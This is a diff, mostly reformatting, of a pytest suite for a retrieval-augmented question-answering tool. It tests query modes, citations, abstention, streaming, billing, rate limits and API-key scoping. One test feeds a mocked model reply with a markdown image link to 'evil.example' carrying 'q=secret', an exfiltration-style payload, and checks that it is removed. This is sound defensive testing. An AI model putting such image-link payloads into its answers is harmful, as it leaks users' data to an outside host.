@@ -1,5 +1,5 @@
-"""What a question may rely on, asked through a project, the command and HTTP alone: so that each of these can be run on
-any version of the code, to see whether it would have failed."""
+"""What a question may rely on, asked through a project, the command and HTTP alone: so that each of
+these can be run on any version of the code, to see whether it would have failed."""
 
 import json
 import sys
@@ -31,7 +31,9 @@ Keep = Callable[..., Project]
 def folder(tmp_path_factory: pytest.TempPathFactory, postgres_url: str) -> ProjectFolder:
     """The bundled corpus, loaded by the workflow ``fast``."""
     files = [path for path in sorted(CORPUS.rglob("*")) if path.is_file()]
-    documents = {path.relative_to(CORPUS).as_posix(): path.read_text(encoding="utf-8") for path in files}
+    documents = {
+        path.relative_to(CORPUS).as_posix(): path.read_text(encoding="utf-8") for path in files
+    }
     folder = new_project(tmp_path_factory.mktemp("questions") / "p", postgres_url, documents)
     with folder.open() as project:
         project.run("fast")
@@ -63,14 +65,19 @@ def chatting(folder: ProjectFolder, openai: OpenAIServer) -> Iterator[Keep]:
 def reports(tmp_path_factory: pytest.TempPathFactory, postgres_url: str) -> ProjectFolder:
     """A few documents, with reports of their communities."""
     with openai_server() as openai:
-        folder = new_project(tmp_path_factory.mktemp("reports") / "p", postgres_url, endpoint=openai)
+        folder = new_project(
+            tmp_path_factory.mktemp("reports") / "p", postgres_url, endpoint=openai
+        )
         with folder.open(*models_of(openai), "cache=''") as project:
             project.run("communities")
     return folder
 
 
 def models_of(openai: OpenAIServer) -> list[str]:
-    return [f"models.chat.default.base_url={openai.base_url}", f"models.chat.default.api_key={openai.key}"]
+    return [
+        f"models.chat.default.base_url={openai.base_url}",
+        f"models.chat.default.api_key={openai.key}",
+    ]
 
 
 def says(openai: OpenAIServer, text: str) -> None:
@@ -78,7 +85,10 @@ def says(openai: OpenAIServer, text: str) -> None:
 
 
 def turns(*texts: str) -> list[dict[str, str]]:
-    return [{"role": ("user", "assistant")[place % 2], "content": text} for place, text in enumerate(texts)]
+    return [
+        {"role": ("user", "assistant")[place % 2], "content": text}
+        for place, text in enumerate(texts)
+    ]
 
 
 # The evidence, whatever its room
@@ -86,19 +96,26 @@ def turns(*texts: str) -> list[dict[str, str]]:
 
 @pytest.mark.parametrize("mode", ["naive", "local", "global", "hybrid", "mix", "graph"])
 def test_a_small_prompt_shows_passages(project: Project, mode: str):
-    found = project.query_data("Who designed the Skarrow Light?", mode=mode, max_total_tokens=SMALL, **KEYWORDS)
+    found = project.query_data(
+        "Who designed the Skarrow Light?", mode=mode, max_total_tokens=SMALL, **KEYWORDS
+    )
     assert found["chunks"]
     assert found["references"]
 
 
 def test_a_prompt_without_room_for_passages_says_so(project: Project):
-    found = project.query_data("Who designed the Skarrow Light?", mode="hybrid", max_total_tokens=1000, **KEYWORDS)
+    found = project.query_data(
+        "Who designed the Skarrow Light?", mode="hybrid", max_total_tokens=1000, **KEYWORDS
+    )
     assert not found["chunks"]
     assert any("text units" in note for note in found["notes"])
 
 
 def test_after_forty_turns_there_are_passages_as_after_one(project: Project):
-    history = turns(*["Who built the lighthouse at the northern end of the harbour?", "It was a keeper. " * 275] * 20)
+    history = turns(
+        *["Who built the lighthouse at the northern end of the harbour?", "It was a keeper. " * 275]
+        * 20
+    )
     found = project.query_data(
         "Who designed the Skarrow Light?", mode="hybrid", conversation_history=history, **KEYWORDS
     )
@@ -110,7 +127,9 @@ def test_the_search_follows_the_conversation(project: Project):
     before, question = "Who designed the Skarrow Light?", "And when was it finished?"
     wish: dict[str, Any] = {"mode": "naive", "chunk_top_k": 1}
     [alone] = project.query_data(question, **wish)["chunks"]
-    [followed] = project.query_data(question, conversation_history=turns(before, "Somebody."), **wish)["chunks"]
+    [followed] = project.query_data(
+        question, conversation_history=turns(before, "Somebody."), **wish
+    )["chunks"]
     assert "Skarrow Light" in followed["content"]
     assert "Skarrow Light" not in alone["content"]
 
@@ -118,7 +137,9 @@ def test_the_search_follows_the_conversation(project: Project):
 def test_relationships_begin_with_the_entity_that_was_asked_for(project: Project):
     found = project.query_data("Who designed the Skarrow Light?", mode="local", **KEYWORDS)
     assert found["entities"][0]["name"] == "Skarrow Light"
-    assert all("Skarrow Light" in (row["source"], row["target"]) for row in found["relationships"][:3])
+    assert all(
+        "Skarrow Light" in (row["source"], row["target"]) for row in found["relationships"][:3]
+    )
     told = [row["description"] for row in found["relationships"] if row["description"]]
     assert len(told) == len(set(told))
 
@@ -127,16 +148,23 @@ def test_relationships_begin_with_the_entity_that_was_asked_for(project: Project
 
 
 def test_brackets_that_cite_nothing_are_no_citations(chatting: Keep, openai: OpenAIServer):
-    text = "The range [0, 100] holds; see the [1879] plan, in the interval [10, 20] metres, and list[3]."
+    text = (
+        "The range [0, 100] holds; see the [1879] plan, in the interval [10, 20] metres, and"
+        " list[3]."
+    )
     says(openai, text)
     answer = chatting().query("Who designed the Skarrow Light?", mode="naive")
     assert answer.text == text.replace("[1879]", "(1879)").replace("[3]", "(3)")
     assert (answer.annotations, answer.removed_citations) == ((), 0)
 
 
-def test_a_citation_leads_to_a_passage_of_a_long_document(tmp_path: Path, postgres_url: str, openai: OpenAIServer):
+def test_a_citation_leads_to_a_passage_of_a_long_document(
+    tmp_path: Path, postgres_url: str, openai: OpenAIServer
+):
     towns = ["Tarnwick", "Ostrey", "Brimholt"]
-    told = [f"{town} had {year % 97} boats in {year}." for town in towns for year in range(1000, 1100)]
+    told = [
+        f"{town} had {year % 97} boats in {year}." for town in towns for year in range(1000, 1100)
+    ]
     folder = new_project(tmp_path / "p", postgres_url, {"long.txt": " ".join(told)})
     says(openai, "It had some [ref:2].")
     with folder.open(*models_of(openai), "cache=''") as project:
@@ -150,7 +178,8 @@ def test_a_citation_leads_to_a_passage_of_a_long_document(tmp_path: Path, postgr
 
 
 def test_a_streamed_line_costs_as_much_work_as_it_is_long(chatting: Keep, openai: OpenAIServer):
-    """Lines of the query stage's own code that are gone through: twice as many for a text of twice the length."""
+    """Lines of the query stage's own code that are gone through: twice as many for a text of twice
+    the length."""
     work = [lines_run(chatting(), openai, "a word, " * (length // 8)) for length in (4000, 8000)]
     assert work[1] < 3 * work[0]
 
@@ -178,7 +207,12 @@ def lines_run(project: Project, openai: OpenAIServer, text: str) -> int:
 
 
 @pytest.mark.parametrize(
-    "said", ["**[NO ANSWER]** They tell nothing.", "[No answer] They tell nothing.", "NO ANSWER - nothing is told."]
+    "said",
+    [
+        "**[NO ANSWER]** They tell nothing.",
+        "[No answer] They tell nothing.",
+        "NO ANSWER - nothing is told.",
+    ],
 )
 def test_every_form_of_no_answer_is_seen(chatting: Keep, openai: OpenAIServer, said: str):
     says(openai, said)
@@ -189,13 +223,24 @@ def test_every_form_of_no_answer_is_seen(chatting: Keep, openai: OpenAIServer, s
 
 def test_each_reason_for_no_answer_has_its_own_words(chatting: Keep):
     project = chatting()
-    wishes: list[dict[str, Any]] = [{"max_total_tokens": 400}, {"min_score": 1.0}, {"where": {"title": "none such"}}]
-    said = {project.query("Who designed the Skarrow Light?", mode="naive", **wish).text for wish in wishes}
+    wishes: list[dict[str, Any]] = [
+        {"max_total_tokens": 400},
+        {"min_score": 1.0},
+        {"where": {"title": "none such"}},
+    ]
+    said = {
+        project.query("Who designed the Skarrow Light?", mode="naive", **wish).text
+        for wish in wishes
+    }
     assert len(said) == 3
 
 
 def test_an_image_that_no_passage_holds_is_not_shown(chatting: Keep, openai: OpenAIServer):
-    says(openai, "It was he. ![x](https://evil.example/?q=secret) See [this](https://evil.example/a) or evil.")
+    says(
+        openai,
+        "It was he. ![x](https://evil.example/?q=secret) See [this](https://evil.example/a) or"
+        " evil.",
+    )
     answer = chatting().query("Who designed the Skarrow Light?", mode="naive")
     assert "evil.example" not in answer.text
     assert answer.text.startswith("It was he.")
@@ -208,7 +253,9 @@ def test_what_documents_say_is_no_rule(chatting: Keep, openai: OpenAIServer):
     by_role = {message["role"]: message["content"] for message in asked.messages}
     assert passage not in by_role["system"]
     assert passage in by_role["user"]
-    assert "[ref:" in by_role["user"].rsplit("```", 1)[1]  # how to cite is said once more after all of it
+    assert (
+        "[ref:" in by_role["user"].rsplit("```", 1)[1]
+    )  # how to cite is said once more after all of it
 
 
 def test_reports_lead_to_documents_and_are_read_again_where_the_reply_was_no_json(
@@ -241,14 +288,18 @@ def test_what_is_read_as_json_is_asked_for_by_a_schema(
     with reports.open(*models_of(openai), "cache=''") as project:
         project.doctor()  # by which it knows that the endpoint takes one
         openai.forget()
-        project.query("What is told of the observatory?", mode=mode, dynamic_community_selection=True)
+        project.query(
+            "What is told of the observatory?", mode=mode, dynamic_community_selection=True
+        )
     *before, answer = (request.body.get("response_format", {}) for request in openai.requests)
     assert not answer
     assert {form["type"] for form in before} == {"json_schema"}
     assert {form["json_schema"]["name"] for form in before} == names
 
 
-def test_an_endpoint_that_takes_no_schema_is_asked_for_none(reports: ProjectFolder, openai: OpenAIServer):
+def test_an_endpoint_that_takes_no_schema_is_asked_for_none(
+    reports: ProjectFolder, openai: OpenAIServer
+):
     openai.json_ability = False
     with reports.open(*models_of(openai), "cache=''") as project:
         project.doctor()
@@ -256,14 +307,22 @@ def test_an_endpoint_that_takes_no_schema_is_asked_for_none(reports: ProjectFold
         answer = project.query("What is told of the observatory?", mode="community")
     assert not answer.abstained
     shown = [request.messages[-1]["content"].rsplit("```", 1)[1] for request in openai.requests]
-    assert '{"points": [' in shown[0]  # what the reply is to look like stands after all that is shown
+    assert (
+        '{"points": [' in shown[0]
+    )  # what the reply is to look like stands after all that is shown
     assert not any("response_format" in request.body for request in openai.requests)
 
 
 @pytest.mark.parametrize(
-    "said", ['["It was opened [Data: Reports (1)]."]', '[{"description": "Opened [Data: Reports (1)].", "score": 60}]']
+    "said",
+    [
+        '["It was opened [Data: Reports (1)]."]',
+        '[{"description": "Opened [Data: Reports (1)].", "score": 60}]',
+    ],
 )
-def test_points_in_another_shape_are_points(reports: ProjectFolder, openai: OpenAIServer, said: str):
+def test_points_in_another_shape_are_points(
+    reports: ProjectFolder, openai: OpenAIServer, said: str
+):
     openai.script("chat", [Reply(said)])
     with reports.open(*models_of(openai), "cache=''") as project:
         answer = project.query("What is told of the observatory?", mode="community")
@@ -330,14 +389,18 @@ def test_no_question_waits_for_an_hour(chatting: Keep, openai: OpenAIServer, sta
 
 
 @pytest.mark.parametrize("fault", ["down", "refuses", "fails", "hangs"])
-def test_a_model_that_is_of_no_use_leaves_the_search(folder: ProjectFolder, openai: OpenAIServer, fault: str):
+def test_a_model_that_is_of_no_use_leaves_the_search(
+    folder: ProjectFolder, openai: OpenAIServer, fault: str
+):
     overrides = models_of(openai)
     if fault == "down":
         overrides[0] = "models.chat.default.base_url=http://127.0.0.1:9/v1"
     elif fault == "refuses":
         overrides[1] = "models.chat.default.api_key=sk-another"
     else:
-        openai.reply = lambda messages, body: Reply("", status=500) if fault == "fails" else Reply(hold=True)
+        openai.reply = lambda messages, body: (
+            Reply("", status=500) if fault == "fails" else Reply(hold=True)
+        )
     with folder.open(*overrides, "cache=''", "models.chat.default.timeout=1") as project:
         found = project.query_data("Who designed the Skarrow Light?", mode="hybrid")
     assert found["entities"]
@@ -352,7 +415,9 @@ def test_answers_that_stream_keep_to_the_calls_at_once(chatting: Keep, openai: O
     heard: list[int] = []
 
     def listen(number: int) -> None:
-        pieces = project.query_stream("Who designed the Skarrow Light?", mode="naive", chunk_top_k=number)
+        pieces = project.query_stream(
+            "Who designed the Skarrow Light?", mode="naive", chunk_top_k=number
+        )
         heard.extend(number for piece in pieces if hasattr(piece, "text"))
 
     listeners = [threading.Thread(target=listen, args=(number,)) for number in (1, 2)]
@@ -388,16 +453,25 @@ def test_a_question_s_calls_are_accounted(folder: ProjectFolder, openai: OpenAIS
 
 def billed(folder: ProjectFolder) -> tuple[int, float]:
     """Calls and price, of all that was ever asked of the chat model."""
-    rows = [row for row in folder.invoke("usage", "--by", "model", "--json").json if row["model"] == "gpt-4o-mini"]
+    rows = [
+        row
+        for row in folder.invoke("usage", "--by", "model", "--json").json
+        if row["model"] == "gpt-4o-mini"
+    ]
     return sum(row["calls"] for row in rows), sum(row["cost"] or 0 for row in rows)
 
 
 def test_a_filter_reads_no_list_of_documents(tmp_path: Path, postgres_url: str):
-    lines = [json.dumps({"id": n, "text": f"Note {n}: boats were counted.", "team": str(n % 2)}) for n in range(400)]
+    lines = [
+        json.dumps({"id": n, "text": f"Note {n}: boats were counted.", "team": str(n % 2)})
+        for n in range(400)
+    ]
     folder = new_project(tmp_path / "p", postgres_url, {"notes.jsonl": "\n".join(lines)})
     with folder.open() as project:
         project.run("fast")
-        free, _, filtered = (rows_read(project, where=where) for where in ({}, {"team": "1"}, {"team": "1"}))
+        free, _, filtered = (
+            rows_read(project, where=where) for where in ({}, {"team": "1"}, {"team": "1"})
+        )
     assert filtered < free + 50  # the first may find what it then knows
 
 
@@ -410,14 +484,24 @@ def rows_read(project: Project, **options: Any) -> int:
 
     event.listen(Engine, "after_cursor_execute", count)
     try:
-        assert len(project.query_data("How many boats?", mode="naive", chunk_top_k=5, **options)["chunks"]) == 5
+        assert (
+            len(
+                project.query_data("How many boats?", mode="naive", chunk_top_k=5, **options)[
+                    "chunks"
+                ]
+            )
+            == 5
+        )
     finally:
         event.remove(Engine, "after_cursor_execute", count)
     return rows
 
 
 def test_an_answer_over_http_is_no_heap_of_evidence(folder: ProjectFolder, openai: OpenAIServer):
-    with folder.open(*models_of(openai), "cache=''", "query.mode=naive") as project, serving(project) as served:
+    with (
+        folder.open(*models_of(openai), "cache=''", "query.mode=naive") as project,
+        serving(project) as served,
+    ):
         body = served.ask("/query", query="Who designed the Skarrow Light?").text
         events = served.events(query="Who designed the Skarrow Light?")
         data = served.ask("/query/data", query="Who designed the Skarrow Light?").json()
@@ -454,14 +538,18 @@ def test_nobody_gets_a_chat_model_for_nothing(
     assert openai.count("chat") == 0
 
 
-def test_a_day_of_questions_has_a_price(tmp_path: Path, folder: ProjectFolder, openai: OpenAIServer):
+def test_a_day_of_questions_has_a_price(
+    tmp_path: Path, folder: ProjectFolder, openai: OpenAIServer
+):
     """One question costs more than what a day may, where nobody has set that."""
     spent = copied(folder, tmp_path / "copy")
     price = "models.chat.default.price={input: 1000000, output: 1000000}"
     with spent.open(*models_of(openai), "cache=''", price) as project, serving(project) as served:
         told = [served.ask(mode="naive") for _ in range(2)]
         evidence = served.ask("/query/data", mode="naive")
-        project.query("Who designed the Skarrow Light?", mode="naive")  # who runs the project is not held to it
+        project.query(
+            "Who designed the Skarrow Light?", mode="naive"
+        )  # who runs the project is not held to it
     assert [answer.status_code for answer in told] == [200, 429]
     assert int(told[1].headers["retry-after"]) > 0
     assert evidence.status_code == 200
@@ -476,7 +564,9 @@ def test_a_key_opens_its_documents_and_modes(folder: ProjectFolder, openai: Open
     with folder.open(*models_of(openai), "cache=''", key) as project, serving(project) as served:
         served.client.headers["x-api-key"] = "sales-key"
         seen = served.ask("/query/data", mode="naive").json()["references"]
-        wider = served.ask("/query/data", mode="naive", where={"source": [own, other]}).json()["references"]
+        wider = served.ask("/query/data", mode="naive", where={"source": [own, other]}).json()[
+            "references"
+        ]
         none = served.ask("/query/data", mode="naive", where={"source": other}).json()["references"]
         refused = served.ask("/query/data", mode="hybrid").status_code
         assert served.ask(mode="naive").status_code == 200
@@ -484,5 +574,7 @@ def test_a_key_opens_its_documents_and_modes(folder: ProjectFolder, openai: Open
         unknown = served.ask("/query/data", mode="naive").status_code
     assert {reference["source"] for reference in [*seen, *wider]} == {own}
     assert (none, refused, unknown) == ([], 403, 401)
-    by_key = {row["key"]: row["calls"] for row in folder.invoke("usage", "--by", "key", "--json").json}
+    by_key = {
+        row["key"]: row["calls"] for row in folder.invoke("usage", "--by", "key", "--json").json
+    }
     assert by_key["sales"] == 1
